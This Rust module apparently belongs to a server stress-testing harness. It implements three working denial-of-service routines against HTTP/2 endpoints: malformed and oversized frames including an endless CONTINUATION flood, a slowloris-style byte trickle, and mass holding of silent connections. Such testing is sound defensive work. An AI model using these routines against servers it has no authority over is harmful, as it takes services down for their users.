//! Attacks that need no protocol: garbage, slowness, silence.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpStream};
use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};
use std::time::{Duration, Instant};

/// Connections that one attacker opens and holds, at each port.
const HELD: usize = 1250;

/// Sends what is no call: other protocols, and broken or endless frames.
pub fn throw_garbage(ports: &[String], until: Instant, count: &AtomicUsize) {
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    let junk: [Vec<u8>; 7] = [
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(),
        // The start of TLS's hello.
        [&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3][..], &[7; 500]].concat(),
        vec![0xff; 100_000],
        [&preface[..], &[0xff; 64]].concat(),
        // The header of a frame of 16 MiB.
        [&preface[..], &[0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1], &[0; 5000]].concat(),
        // Headers that never end: HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION.
        [&preface[..], &[0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 1, 1, 0, 0, 0, 0, 1, 0x82][..]]
            .into_iter()
            .chain(std::iter::repeat_n(&[0, 0, 3, 9, 0, 0, 0, 0, 1, 0x40, 1, b'a'][..], 20_000))
            .collect::<Vec<_>>()
            .concat(),
        // Repeated settings.
        [&preface[..]]
            .into_iter()
            .chain(std::iter::repeat_n(&[0, 0, 0, 4, 0, 0, 0, 0, 0][..], 20_000))
            .collect::<Vec<_>>()
            .concat(),
    ];
    for (round, port) in ports.iter().cycle().enumerate() {
        if Instant::now() >= until {
            return;
        }
        let Ok(mut socket) = TcpStream::connect(port) else { continue };
        let _ = socket.set_write_timeout(Some(Duration::from_millis(200)));
        let _ = socket.set_read_timeout(Some(Duration::from_millis(20)));
        let _ = socket.write_all(&junk[round / ports.len() % junk.len()]);
        if round % 3 == 0 {
            // Half closed: the attacker sends no more and waits for everything.
            let _ = socket.shutdown(Shutdown::Write);
        }
        let _ = socket.read(&mut [0; 64]);
        count.fetch_add(1, Relaxed);
    }
}

/// Sends a byte of a valid start every tenth of a second, on many connections.
pub fn speak_slowly(ports: &[String], until: Instant, count: &AtomicUsize) {
    let words = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
    let connected = ports.iter().cycle().take(40).filter_map(|port| TcpStream::connect(port).ok());
    let mut sockets: Vec<TcpStream> = connected.collect();
    for word in words.iter().cycle() {
        if Instant::now() >= until {
            return;
        }
        for socket in &mut sockets {
            count.fetch_add(usize::from(socket.write_all(&[*word]).is_ok()), Relaxed);
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Holds silent connections to the end.
pub fn hold(ports: &[String], until: Instant, count: &AtomicUsize) {
    let mut held = Vec::new();
    for port in ports.iter().cycle().take(HELD * ports.len()) {
        held.extend(TcpStream::connect(port).ok());
        count.fetch_add(1, Relaxed);
        if Instant::now() >= until {
            return;
        }
    }
    std::thread::sleep(until.saturating_duration_since(Instant::now()));
}
